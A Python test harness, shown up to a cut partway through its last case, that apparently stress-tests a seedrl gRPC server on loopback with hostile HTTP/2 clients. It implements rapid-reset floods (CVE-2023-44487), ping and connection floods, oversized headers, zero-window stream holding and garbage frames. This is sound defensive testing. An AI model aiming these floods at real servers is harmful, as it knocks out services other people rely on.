#!/usr/bin/env python3
"""Hostile HTTP/2 clients against a seedrl server, one bounded case per run (loopback only).

Each case speaks raw HTTP/2 through PyPI `h2` over a plain socket and breaks the protocol
or the gRPC conventions in one way, and states what the server must do about it (the
case's docstring; `expected` in the output). After every case a well-behaved grpcio client
must still be served (GetSpec, one Act exchange, GetStats). Prints one JSON line:

    case, passed, expected (the checks, "; "-joined), failed (each failed check: what was
    expected, what happened), server_alive, healthy_served (+ healthy_detail),
    rss_kib_before/peak/after/settled (VmRSS of --pid: before is taken after one warm-up
    exchange; settled is --settle seconds after the attacker's sockets closed),
    attack_seconds, answer (what the server sent the attacker: frames by type, RST_STREAM
    and GOAWAY codes, grpc-status/grpc-message, DATA bytes), and the case's own fields

    scripts/hostile-clients.py --target 127.0.0.1:PORT --case rapid-reset --pid PID

Exit status 0 when every check passed, 1 otherwise. Needs h2 and grpcio
(scripts/test-hostile-clients.sh makes the virtual environment and starts each case's server
with the flags the case expects, e.g. --stream-idle-seconds 1 for zero-window).
"""
import argparse
import json
import random
import select
import socket
import struct
import sys
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes

ACT = "/seedrl.v1.Learner/Act"
GET_SPEC = "/seedrl.v1.Learner/GetSpec"
GET_STATS = "/seedrl.v1.Learner/GetStats"
UNKNOWN_METHOD = "/seedrl.v1.Learner/NoSuchMethod"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
               6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
MIB = 1024  # KiB per MiB (VmRSS is in KiB)


# --- protobuf and gRPC framing, by hand (the contract is tiny) -------------------------------

def cartpole_step():
    """A valid CartPole Step: step_type FIRST (field 1), observation 4 float32 (field 4)."""
    observation = struct.pack("<4f", 0.01, -0.02, 0.03, -0.04)
    return b"\x08\x01" + b"\x22" + bytes([len(observation)]) + observation


def first_step(observation):
    """A Step with step_type FIRST and `observation` (field 4, any length)."""
    return b"\x08\x01" + b"\x22" + encode_varint(len(observation)) + observation


def encode_varint(value):
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def grpc_message(payload, announced=None):
    """gRPC length-prefixed message: flag 0, 4-byte big-endian length, bytes."""
    return b"\x00" + struct.pack(">I", len(payload) if announced is None else announced) + payload


def read_varint(data, offset):
    value, shift = 0, 0
    while True:
        byte = data[offset]
        offset += 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if byte < 0x80:
            return value, offset


def decode_all(data):
    """Top-level protobuf fields in order: [(number, value)] (varints as ints, the rest as bytes)."""
    fields, offset = [], 0
    while offset < len(data):
        key, offset = read_varint(data, offset)
        number, wire = key >> 3, key & 7
        if wire == 0:
            value, offset = read_varint(data, offset)
        elif wire == 1:
            value, offset = data[offset:offset + 8], offset + 8
        elif wire == 5:
            value, offset = data[offset:offset + 4], offset + 4
        elif wire == 2:
            length, offset = read_varint(data, offset)
            value, offset = data[offset:offset + length], offset + length
        else:
            raise ValueError(f"wire type {wire}")
        fields.append((number, value))
    return fields


def decode_fields(data):
    """Top-level protobuf fields: {number: last value}."""
    return dict(decode_all(data))


def spec_observation(spec_bytes):
    """(zero observation bytes, number of actions) for a Spec: shape is field 2 (packed or
    not), dtype field 3 (1 float32, 2 uint8), num_actions field 4."""
    shape = []
    for number, value in decode_all(spec_bytes):
        if number == 2 and isinstance(value, int):
            shape.append(value)
        elif number == 2:
            offset = 0
            while offset < len(value):
                extent, offset = read_varint(value, offset)
                shape.append(extent)
    fields = decode_fields(spec_bytes)
    size = 4 if fields.get(3, 1) == 1 else 1
    for extent in shape:
        size *= extent
    return bytes(size), fields.get(4, 0)


def request_headers(target, path=ACT, te="trailers", extra=(), token=None):
    auth = [("authorization", f"Bearer {token}")] if token else []
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", target),
            ("te", te), ("content-type", "application/grpc")] + auth + list(extra)


# --- the server process ------------------------------------------------------------------------

def proc_status(pid, key):
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith(key + ":"):
                    return line.split()[1]
    except (FileNotFoundError, ProcessLookupError):
        return None
    return None


def rss_kib(pid):
    value = proc_status(pid, "VmRSS") if pid else None
    return int(value) if value is not None else None


def server_alive(pid):
    """The pid exists and is not a zombie (a crashed child of the test script is one)."""
    state = proc_status(pid, "State")
    return state is not None and state not in ("Z", "X")


class PeakSampler:
    """Samples VmRSS every 20 ms in a thread; `peak` is the largest seen."""

    def __init__(self, pid):
        self.pid, self.peak, self.running = pid, rss_kib(pid), pid is not None
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self):
        while self.running:
            value = rss_kib(self.pid)
            if value is not None and (self.peak is None or value > self.peak):
                self.peak = value
            time.sleep(0.02)

    def __enter__(self):
        if self.running:
            self.thread.start()
        return self

    def __exit__(self, *exc):
        self.running = False


# --- the attacker's side: one HTTP/2 connection over a raw socket --------------------------------

class Answer:
    """What the server sent back, summed over the attacker's connections."""

    def __init__(self):
        self.frames, self.rst_codes, self.goaways, self.statuses, self.messages = {}, {}, [], {}, []
        self.data_bytes, self.closed, self.responses, self.server_settings = 0, 0, 0, None
        self.violations, self.errors, self.examples = {}, [], []

    def count_frame(self, name, payload):
        self.frames[name] = self.frames.get(name, 0) + 1
        if name == "RST_STREAM" and len(payload) >= 4:
            code = error_name(struct.unpack(">I", payload[:4])[0])
            self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
        if name == "GOAWAY" and len(payload) >= 8 and len(self.goaways) < 5:
            last, code = struct.unpack(">II", payload[:8])
            self.goaways.append({"code": error_name(code), "last_stream": last & 0x7FFFFFFF,
                                 "debug": payload[8:200].decode("utf-8", "replace")})
        if name == "SETTINGS" and payload and self.server_settings is None:
            self.server_settings = {setting_name(code): value for code, value in
                                    (struct.unpack(">HI", payload[i:i + 6]) for i in range(0, len(payload), 6))}

    def count_headers(self, headers):
        values = dict(headers)
        self.responses += ":status" in values
        if "grpc-status" in values:
            status = values["grpc-status"]
            self.statuses[status] = self.statuses.get(status, 0) + 1
            message = values.get("grpc-message", "")
            if message and message not in self.messages and len(self.messages) < 5:
                self.messages.append(message)
        return values.get("grpc-status"), values.get("grpc-message")

    def note(self, violation, example=None):
        """A frame the server should not have sent (HTTP/2 or gRPC)."""
        self.violations[violation] = self.violations.get(violation, 0) + 1
        if example is not None and len(self.examples) < 3:
            self.examples.append(example)

    def error(self, text):
        if text not in self.errors and len(self.errors) < 5:
            self.errors.append(text)

    def as_dict(self):
        result = {"frames": self.frames, "grpc_status": self.statuses, "grpc_message": self.messages,
                  "data_bytes": self.data_bytes, "rst_stream": self.rst_codes, "goaway": self.goaways,
                  "closed_by_server": self.closed, "responses": self.responses,
                  "server_violations": self.violations, "violation_examples": self.examples,
                  "client_errors": self.errors, "server_settings": self.server_settings}
        return {key: value for key, value in result.items() if value not in ({}, [], 0, None)}


class FrameReader:
    """Parses the server's bytes into frames itself (h2's state machine gives up at the server's
    first protocol error, e.g. a second HEADERS after END_STREAM) and reports them to an Answer."""

    def __init__(self, answer):
        self.answer, self.buffer, self.decoder = answer, b"", hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.block, self.block_stream = b"", 0
        self.ended, self.answers, self.data = set(), {}, {}  # per stream: END_STREAM seen, statuses, DATA
        self.kinds = set()  # frame types seen on this connection

    def feed(self, chunk):
        self.buffer += chunk
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            self.frame(FRAME_TYPES.get(kind, f"type-{kind}"), flags, stream, payload)

    def frame(self, name, flags, stream, payload):
        self.answer.count_frame(name, payload)
        self.kinds.add(name)
        if name in ("DATA", "HEADERS") and flags & 0x8:  # PADDED
            payload = payload[1:len(payload) - payload[0]]
        if name == "HEADERS" and flags & 0x20:  # PRIORITY
            payload = payload[5:]
        if name in ("DATA", "HEADERS") and stream in self.ended:
            self.answer.note(f"{name} after END_STREAM")
        if name == "DATA":
            self.answer.data_bytes += len(payload)
            self.data[stream] = self.data.get(stream, b"") + payload[:65536]
        elif name == "HEADERS":
            self.block, self.block_stream = payload, stream
        elif name == "CONTINUATION":
            self.block += payload
        if name in ("HEADERS", "CONTINUATION") and flags & 0x4:  # END_HEADERS
            self.header_block()
        if name in ("DATA", "HEADERS") and flags & 0x1:  # END_STREAM
            self.ended.add(stream)

    def header_block(self):
        try:
            headers = self.decoder.decode(self.block, raw=False)
        except Exception as error:  # an HPACK error of the server's, or ours: report, keep counting
            self.answer.error(f"hpack: {error!r}")
            return
        status = self.answer.count_headers(headers)
        if status[0] is not None:
            answers = self.answers.setdefault(self.block_stream, [])
            answers.append(list(status))
            if len(answers) == 2:
                self.answer.note("two grpc-status for one stream",
                                 {"stream": self.block_stream, "statuses": answers})


def setting_name(code):
    return SettingCodes(code).name if code in SettingCodes._value2member_map_ else str(code)


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class Connection:
    """A raw socket plus an h2 client state machine. Everything written goes through one outbox
    (the case's frames and h2's own ACKs, in order); every byte read is also parsed by a FrameReader."""

    def __init__(self, target, answer, initial_window=None, open_windows=True, handshake=True, settled=False):
        host, port = target.rsplit(":", 1)
        self.answer, self.open_windows = answer, open_windows
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                           validate_outbound_headers=False, normalize_outbound_headers=False,
                                           validate_inbound_headers=False)
        self.h2 = h2.connection.H2Connection(config=config)
        if initial_window is not None:
            self.h2.local_settings = h2.settings.Settings(
                client=True, initial_values={SettingCodes.INITIAL_WINDOW_SIZE: initial_window,
                                             SettingCodes.ENABLE_PUSH: 0})
        self.reader, self.outbox, self.eof, self.events = FrameReader(answer), bytearray(), False, []
        if handshake:
            self.h2.initiate_connection()
            self.pump(deadline=time.monotonic() + 5)
        if settled:  # wait for the server's SETTINGS and ACK them, so its limits are in force
            self.read_for(3, until=lambda: "SETTINGS" in self.reader.kinds)

    def pump(self, deadline, read=True, raw=b""):
        """Writes `raw` and what h2 queued until all is out or `deadline`, reading meanwhile
        unless read=False; returns the bytes written."""
        self.outbox += raw + self.h2.data_to_send()
        written = 0
        while self.outbox and time.monotonic() < deadline and not self.eof:
            readable, writable, _ = select.select([self.sock] if read else [], [self.sock], [], 0.1)
            if readable:
                self.receive()
            if writable:
                written += self.send_some()
        return written

    def send_some(self):
        """One non-blocking write from the outbox."""
        try:
            sent = self.sock.send(self.outbox[:1 << 20])
        except (BlockingIOError, InterruptedError):
            return 0
        except OSError as error:
            # The server closed while we wrote: what it sent before (a GOAWAY) is still in
            # our receive buffer, and read_for stops at eof, so read it now.
            self.drain()
            self.note_closed(error)
            return 0
        del self.outbox[:sent]
        return sent

    def receive(self):
        """One read: parsed by the FrameReader, fed to h2 (whose replies join the outbox)."""
        try:
            chunk = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return
        except OSError as error:
            self.note_closed(error)
            return
        if not chunk:
            self.note_closed(None)
            return
        self.reader.feed(chunk)
        if self.h2.state_machine.state == h2.connection.ConnectionState.CLOSED:
            return  # h2 gave up on the server (reported once below); the reader keeps counting
        try:
            for event in self.h2.receive_data(chunk):
                self.handle(event)
        except h2.exceptions.ProtocolError as error:
            self.answer.error(f"our h2 refused the server's frames (and sent GOAWAY): {error!r}")
        self.outbox += self.h2.data_to_send()

    def handle(self, event):
        """h2's events drive only our side: stream resets seen, window updates for DATA."""
        if len(self.events) < 1000:
            self.events.append(event)
        if isinstance(event, h2.events.DataReceived) and self.open_windows and event.flow_controlled_length:
            self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def note_closed(self, error):
        if not self.eof:
            self.eof = True
            self.answer.closed += 1
            if error is not None:
                self.answer.error(f"socket: {error}")

    def read_for(self, seconds, until=None):
        """Reads (and writes h2's ACKs) for up to `seconds`, or until `until()` is true."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.eof and not (until and until()):
            readable, _, _ = select.select([self.sock], [], [], max(0.0, min(0.05, deadline - time.monotonic())))
            if readable:
                self.receive()
            if self.outbox:
                self.send_some()

    def drain(self):
        """Reads what the server has already sent, without waiting."""
        while not self.eof and select.select([self.sock], [], [], 0)[0]:
            self.receive()

    def stream_done(self, stream_id):
        """A predicate: the server ended or reset `stream_id`, or h2 gave up on the connection."""
        return lambda: stream_id in self.reader.ended or self.h2.state_machine.state == \
            h2.connection.ConnectionState.CLOSED or any(
                isinstance(e, h2.events.StreamReset) and e.stream_id == stream_id for e in self.events)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def read_all(conns, seconds, until=None):
    """Reads every connection in `conns` (and writes h2's ACKs) for up to `seconds`, or until
    `until()` is true or all are closed."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not (until and until()):
        live = {conn.sock: conn for conn in conns if not conn.eof}
        if not live:
            return
        readable, _, _ = select.select(list(live), [], [], max(0.0, min(0.05, deadline - time.monotonic())))
        for sock in readable:
            live[sock].receive()
        for conn in live.values():
            if conn.outbox:
                conn.send_some()


def open_connections(target, answer, count, **options):
    conns = []
    for _ in range(count):
        try:
            conns.append(Connection(target, answer, **options))
        except OSError as error:
            answer.error(f"connect #{len(conns) + 1}: {error}")
            break
    return conns


# --- the well-behaved client ------------------------------------------------------------------------

def channel_options():
    return [("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0)]


def auth_metadata(token):
    return [("authorization", f"Bearer {token}")] if token else None


def healthy(target, token=None, timeout=5.0):
    """GetSpec, one Act exchange (a FIRST Step with a zero observation of the spec's shape and
    dtype; one Action in 0..num_actions-1 back), GetStats, over grpcio. Returns (ok, detail)."""
    metadata = auth_metadata(token)
    try:
        with grpc.insecure_channel(target, options=channel_options()) as channel:
            observation, actions = spec_observation(channel.unary_unary(GET_SPEC)(b"", timeout=timeout, metadata=metadata))
            if actions < 1:
                return False, "GetSpec: no actions in the spec"
            replies = list(channel.stream_stream(ACT)(iter([first_step(observation)]), timeout=timeout, metadata=metadata))
            if len(replies) != 1 or not 0 <= decode_fields(replies[0]).get(1, 0) < actions:
                return False, f"Act: expected one action in 0..{actions - 1}, got {replies}"
            stats = decode_fields(channel.unary_unary(GET_STATS)(b"", timeout=timeout, metadata=metadata))
            return True, f"spec ok, 1 action, steps_served={stats.get(1, 0)} active_streams={stats.get(2, 0)}"
    except grpc.RpcError as error:
        return False, f"{error.code().name}: {error.details()}"


def active_streams(target, token=None, timeout=3.0):
    """GetStats' active_streams over a fresh grpcio channel; None (and the error) when it fails."""
    try:
        with grpc.insecure_channel(target, options=channel_options()) as channel:
            stats = channel.unary_unary(GET_STATS)(b"", timeout=timeout, metadata=auth_metadata(token))
            return decode_fields(stats).get(2, 0), None
    except grpc.RpcError as error:
        return None, f"{error.code().name}: {error.details()}"


# --- what a case expects -----------------------------------------------------------------------------

class Verdict:
    """A case's checks: what was expected, whether it held, what happened. `max_growth_mib`,
    when a case sets it, is checked by main() against the whole run's VmRSS peak."""

    def __init__(self):
        self.checks, self.max_growth_mib = [], None

    def expect(self, what, ok, got):
        self.checks.append({"expect": what, "ok": bool(ok), "got": got})
        return bool(ok)

    def healthy_during(self, args, what="a healthy client is served during the attack", timeout=5.0):
        ok, detail = healthy(args.target, args.token, timeout=timeout)
        return self.expect(what, ok, detail)


def growth_mib(args, kib):
    """VmRSS growth over the run's `before`, in MiB (None if either is unknown)."""
    return None if kib is None or args.rss_before is None else round((kib - args.rss_before) / MIB, 1)


# --- the cases ---------------------------------------------------------------------------------------
# Each takes (args, answer, verdict), records its checks in `verdict` and returns (connections
# to close after the attack, extra fields). main() adds to every case: the server is alive and a
# healthy client is served afterwards (and the VmRSS bound, when the case set one).

def case_te_big_headers(args, answer, verdict):
    """`te: x` (anything but "trailers") followed by > 8 KB of other headers: 1.51's metadata
    size error path with an invalid `te` aborted the process (CVE-2023-1428).
    Expected: the server stays alive and serves. Known 1.51 core behaviour, reported, not
    failed: the over-limit stream gets two trailers (RESOURCE_EXHAUSTED, then INTERNAL)."""
    padding = [(f"x-pad-{i}", "p" * 1000) for i in range(10)]
    return single_request(args, answer, request_headers(args.target, te="x", extra=padding))


def case_header_64k(args, answer, verdict):
    """One 64 KB header value (HEADERS + CONTINUATION): the HPACK parser's buffering.
    Expected: the server stays alive and serves (the double trailers are reported)."""
    return single_request(args, answer, request_headers(args.target, extra=[("x-big", "b" * 65536)]))


def case_many_headers(args, answer, verdict):
    """5000 small headers in one header block (HEADERS + CONTINUATIONs): HPACK CPU and table churn.
    Expected: the server stays alive and serves (the double trailers are reported)."""
    count = args.count or 5000
    extra = [(f"x-h-{i}", f"v{i}") for i in range(count)]
    return single_request(args, answer, request_headers(args.target, extra=extra))


def single_request(args, answer, headers):
    """Sends one Act request with `headers` and a valid Step, half-closes, reads the answer: once
    after ACKing the server's SETTINGS (its header-list limit in force; reported as `answer`), once
    on a fresh connection straight after the preface, before any ACK (`answer_before_settings_ack`)."""
    early = Answer()
    conns = [Connection(args.target, answer, settled=True), Connection(args.target, early)]
    for conn in conns:
        stream = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(stream, headers)
        conn.h2.send_data(stream, grpc_message(cartpole_step()), end_stream=True)
        conn.pump(deadline=time.monotonic() + 10)
        conn.read_for(5, until=conn.stream_done(stream))
    header_bytes = sum(len(k) + len(v) for k, v in headers)
    return conns, {"sent": {"headers": len(headers), "header_bytes": header_bytes},
                   "answer_before_settings_ack": early.as_dict()}


# What a reset flood may leave resident once it is over: the server's HeapTrimmer gives free
# heap back only above 32 MiB of free chunks (below that, steady serving keeps its pages), and
# what the server really holds for two open idle connections was measured at ~2 MiB; 16 MiB
# on top is the margin (allocator bookkeeping, the core's per-connection tables).
RESET_FLOOD_HELD_MIB = 32 + 16


def wait_for_growth_below(args, bound_mib, timeout=30.0):
    """Polls VmRSS until its growth over `before` is under `bound_mib` (the server gives memory
    back on its own schedule: wait for that event, not for a fixed time); returns the growth."""
    deadline = time.monotonic() + timeout
    while True:
        growth = growth_mib(args, rss_kib(args.pid))
        if growth is None or growth < bound_mib or time.monotonic() >= deadline:
            return growth
        time.sleep(0.1)


def case_rapid_reset(args, answer, verdict):
    """CVE-2023-44487: 20,000 Act streams on one connection, each HEADERS followed at once by
    RST_STREAM(CANCEL), then 20,000 more on a second connection (the first still open).
    Expected: after each 20,000, with the attacker's connections still open, the server's
    VmRSS comes back under RESET_FLOOD_HELD_MIB above `before` (the flood costs nothing that
    stays: without giving freed memory back it held ~95 MiB); the server stays alive and serves."""
    count, rounds, conns, sent_rounds = args.count or 20000, args.rounds or 2, [], []
    for index in range(rounds):
        conn = Connection(args.target, answer)
        sent, seconds = reset_streams(conn, args.target, count)
        conn.read_for(1)
        conns.append(conn)
        peak_rss = rss_kib(args.pid)
        growth = wait_for_growth_below(args, RESET_FLOOD_HELD_MIB)
        sent_rounds.append({"streams_reset": sent, "seconds": round(seconds, 2), "rss_kib_connection_open": peak_rss,
                            "growth_mib_settled": growth})
        total = sum(r["streams_reset"] for r in sent_rounds)
        verdict.expect(f"all {count * (index + 1)} resets sent, VmRSS growth settles < {RESET_FLOOD_HELD_MIB} MiB",
                       total == count * (index + 1) and growth is not None and growth < RESET_FLOOD_HELD_MIB,
                       f"{total} reset, growth {growth} MiB")
    return conns, {"sent": sent_rounds}


def reset_streams(conn, target, count, limit=20.0):
    """HEADERS + RST_STREAM(CANCEL) `count` times, written in batches of 500; returns (sent, seconds)."""
    headers, started, sent = request_headers(target), time.monotonic(), 0
    while sent < count and time.monotonic() < started + limit and not conn.eof:
        for _ in range(min(500, count - sent)):
            stream = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(stream, headers)
            conn.h2.reset_stream(stream, ErrorCodes.CANCEL)
            sent += 1
        conn.pump(started + limit)
    return sent, time.monotonic() - started


def case_ping_flood(args, answer, verdict):
    """50,000 PING frames written without reading the ACKs: the induced-frame queue.
    Expected: the server ends the connection with GOAWAY ENHANCE_YOUR_CALM (ping strikes: at
    most 2 pings less than 1 s apart with no data between); it stays alive and serves others."""
    count = args.count or 50000
    conn = Connection(args.target, answer)
    for index in range(count):
        conn.h2.ping(struct.pack(">Q", index))
    written = conn.pump(deadline=time.monotonic() + 10, read=False)
    conn.read_for(5, until=lambda: answer.frames.get("PING", 0) >= count)
    calm = [g for g in answer.goaways if g["code"] == "ENHANCE_YOUR_CALM"]
    verdict.expect("GOAWAY ENHANCE_YOUR_CALM", calm,
                   calm[0] if calm else f"no such GOAWAY ({answer.goaways or 'none'}); {answer.frames.get('PING', 0)} PING ACKs")
    return [conn], {"sent": {"pings": written // 17, "pings_queued": count}}


def case_zero_window(args, answer, verdict):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, one Act stream with one Step, never a WINDOW_UPDATE and
    nothing read, so the server can never send the Action (nor, behind it, trailers). The server
    runs with --stream-idle-seconds 1. Expected: the stream is admitted (GetStats active_streams 1),
    a healthy client is served meanwhile, and after a 3 s hold (idle 1 s + the 2 s grace before a
    stream that cannot take its DEADLINE_EXCEEDED is cancelled) active_streams is back to 0
    within 5 s while the attacker still holds the connection: its slot is freed."""
    hold_seconds = args.seconds if args.seconds is not None else 3
    conn = Connection(args.target, answer, initial_window=0, open_windows=False)
    started = time.monotonic()
    stream = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream, request_headers(args.target))
    conn.h2.send_data(stream, grpc_message(cartpole_step()))
    conn.pump(deadline=time.monotonic() + 5, read=False)
    time.sleep(0.3)
    held, error = active_streams(args.target, args.token)
    verdict.expect("the stuck stream is admitted (active_streams 1)", held == 1, f"active_streams={held} {error or ''}")
    verdict.healthy_during(args, "a healthy client is served while the stream is stuck")
    time.sleep(max(0.0, started + hold_seconds - time.monotonic()))
    polled, freed_after, deadline = None, None, time.monotonic() + 5
    while time.monotonic() < deadline:
        polled, error = active_streams(args.target, args.token)
        if polled == 0:
            freed_after = round(time.monotonic() - started, 1)
            break
        time.sleep(0.25)
    verdict.expect(f"active_streams back to 0 within 5 s after the {hold_seconds:g} s hold (connection still open)",
                   freed_after is not None,
                   f"0 after {freed_after} s" if freed_after is not None else f"still {polled} after {time.monotonic() - started:.1f} s")
    conn.read_for(0.5)  # now see what the server had queued for us (HEADERS, RST_STREAM: DATA needs a window)
    return [conn], {"held_seconds": hold_seconds, "slot_freed_after_s": freed_after}


def case_idle_connections(args, answer, verdict):
    """300 connections: preface + SETTINGS, then silence for 4 s (no call, so the default
    --max-connection-idle-seconds of 120 s does not end them). Expected: a healthy client is
    served during the hold and after. Reports VmRSS KiB per idle connection."""
    count, seconds = args.count or 300, args.seconds if args.seconds is not None else 4
    conns = open_connections(args.target, answer, count)
    time.sleep(seconds / 2)
    verdict.healthy_during(args, f"a healthy client is served while {len(conns)} idle connections are open")
    time.sleep(seconds / 2)
    held = rss_kib(args.pid)
    for conn in conns:
        conn.drain()
    per_connection = None if held is None or not conns else round((held - args.rss_before) / len(conns), 1)
    return conns, {"held_seconds": seconds, "connections": len(conns), "rss_kib_held": held,
                   "kib_per_idle_connection": per_connection,
                   "served_settings": sum("SETTINGS" in conn.reader.kinds for conn in conns)}


def case_idle_timeout(args, answer, verdict):
    """50 connections that send the preface and SETTINGS and then no call, against a server
    started with --max-connection-idle-seconds 3. Expected: the server closes every one of them
    (GOAWAY or EOF) within 10 s; it serves a healthy client afterwards."""
    count, started = args.count or 50, time.monotonic()
    conns = open_connections(args.target, answer, count)
    closed_at = {}

    def all_closed():
        for index, conn in enumerate(conns):
            if index not in closed_at and (conn.eof or "GOAWAY" in conn.reader.kinds):
                closed_at[index] = round(time.monotonic() - started, 1)
        return len(closed_at) == len(conns)

    read_all(conns, 10, until=all_closed)
    all_closed()
    last = max(closed_at.values()) if closed_at else None
    verdict.expect(f"the server closes all {count} idle connections (GOAWAY or EOF) within 10 s",
                   len(conns) == count and len(closed_at) == count,
                   f"{len(closed_at)}/{len(conns)} closed" + (f", the last after {last} s" if last else ""))
    return conns, {"connections": len(conns), "closed_by_server_within_10s": len(closed_at), "last_closed_after_s": last}


def case_garbage_after_preface(args, answer, verdict):
    """The client preface, then random bytes instead of frames, on 20 connections (seeded).
    Expected: the server closes them and stays alive and serving."""
    generator = random.Random(1)
    count = args.count or 20
    conns = []
    for _ in range(count):
        conn = Connection(args.target, answer, handshake=False)
        conn.h2.initiate_connection()
        conn.h2.data_to_send()  # h2's own SETTINGS is dropped: garbage follows the bare preface
        garbage = bytes(generator.getrandbits(8) for _ in range(16384))
        conn.pump(deadline=time.monotonic() + 2, raw=PREFACE + garbage)
        conn.read_for(1, until=lambda: conn.eof)
        conns.append(conn)
    return conns, {"sent": {"connections": count, "garbage_bytes_each": 16384}}


def case_truncated_message(args, answer, verdict):
    """An Act stream whose DATA announces a 100-byte message but carries 10, then END_STREAM.
    Expected: the server stays alive and serving. Known 1.51 core behaviour, reported, not
    failed: the call ends OK (the core drops the incomplete message as end of stream)."""
    conn = Connection(args.target, answer)
    stream = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream, request_headers(args.target))
    conn.h2.send_data(stream, grpc_message(cartpole_step()[:10], announced=100), end_stream=True)
    conn.pump(deadline=time.monotonic() + 5)
    conn.read_for(5, until=conn.stream_done(stream))
    data = conn.reader.data.get(stream, b"")
    actions = [decode_fields(data[5:])] if len(data) >= 5 else []
    ended = stream in conn.reader.ended
    return [conn], {"sent": {"announced": 100, "carried": 10}, "stream_ended": ended, "actions": actions[:3]}


def case_unauth_big_unary(args, answer, verdict):
    """Against a server started with a token: GetSpec without authorization whose DATA is one
    64 MiB message, uploaded as fast as the server's window allows and stopped as soon as it
    answers; then an unknown method without authorization. Expected: both get UNAUTHENTICATED
    (grpc-status 16), and the payload is not buffered: VmRSS peak - before < 16 MiB."""
    size = args.count or 64 << 20
    conn = Connection(args.target, answer)
    stream = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream, request_headers(args.target, path=GET_SPEC))
    conn.h2.send_data(stream, grpc_message(b"", announced=size))  # the 5-byte prefix; the bytes follow
    remaining, deadline = size, time.monotonic() + 20
    while remaining and time.monotonic() < deadline and not conn.eof and not conn.stream_done(stream)():
        window = min(conn.h2.local_flow_control_window(stream), conn.h2.max_outbound_frame_size, remaining)
        if window <= 0:
            conn.read_for(0.05)  # wait for the server's WINDOW_UPDATE
            continue
        conn.h2.send_data(stream, bytes(window), end_stream=window == remaining)
        remaining -= window
        conn.pump(deadline)
    conn.read_for(3, until=conn.stream_done(stream))
    big = conn.reader.answers.get(stream, [[None, None]])[0]
    verdict.expect("64 MiB GetSpec without token: grpc-status 16", big[0] == "16", f"grpc-status {big[0]}: {big[1]}")

    other = Connection(args.target, answer)
    unknown = other.h2.get_next_available_stream_id()
    other.h2.send_headers(unknown, request_headers(args.target, path=UNKNOWN_METHOD))
    other.h2.send_data(unknown, grpc_message(b""), end_stream=True)
    other.pump(deadline=time.monotonic() + 5)
    other.read_for(3, until=other.stream_done(unknown))
    status = other.reader.answers.get(unknown, [[None, None]])[0]
    verdict.expect("unknown method without token: grpc-status 16", status[0] == "16", f"grpc-status {status[0]}: {status[1]}")
    verdict.max_growth_mib = 16
    return [conn, other], {"sent": {"announced": size, "bytes_sent": 5 + size - remaining, "completed": remaining == 0}}


def case_connection_flood(args, answer, verdict):
    """Up to 400 connections against a server under `prlimit --nofile=256`: the 1.51 core stops
    accepting for good when accept4 fails (EMFILE). Expected: a NEW well-behaved client is
    served within 10 s of the flood while the flood's sockets are still open on our side (the
    server restarts its listener, which closes the flood's connections); it serves after too."""
    count = args.count or 400
    conns = open_connections(args.target, answer, count)
    flooded, served_after, attempts, detail = time.monotonic(), None, 0, ""
    while served_after is None and time.monotonic() < flooded + 10:
        attempts += 1
        ok, detail = healthy(args.target, args.token, timeout=2)
        if ok:
            served_after = round(time.monotonic() - flooded, 1)
        else:
            time.sleep(0.5)
    verdict.expect("a new client is served within 10 s of the flood", served_after is not None,
                   f"{detail} (after {round(time.monotonic() - flooded, 1)} s, {attempts} tries)")
    for conn in conns:
        conn.drain()
    restarted = None
    if args.server_log:
        with open(args.server_log, errors="replace") as log:
            restarted = "restarting it" in log.read()
    return conns, {"connections": len(conns), "served_after_s": served_after,
                   "served_settings": sum("SETTINGS" in conn.reader.kinds for conn in conns),
                   "listener_restart_logged": restarted}


def case_many_streams(args, answer, verdict):
    """1,100 Act streams on one connection, HEADERS only (no Step), after ACKing the server's
    SETTINGS; our h2 is told to ignore the server's MAX_CONCURRENT_STREAMS. First 1,024 (the
    limit), then 76 more. Expected: the first 1,024 arrive (GetStats active_streams >= 1,000,
    so the attack is real) and the 76 beyond are never admitted: active_streams stays <= 1024
    (refused with RST_STREAM REFUSED_STREAM, or, as the 1.51 core does, the connection is
    ended with its streams: reported in `connection_closed` and `answer`)."""
    count, limit = args.count or 1100, 1024
    conn = Connection(args.target, answer, settled=True)
    conn.h2.remote_settings[SettingCodes.MAX_CONCURRENT_STREAMS] = 2 ** 31 - 1
    conn.h2.remote_settings.acknowledge()
    headers = request_headers(args.target, token=args.token)
    counts = {}
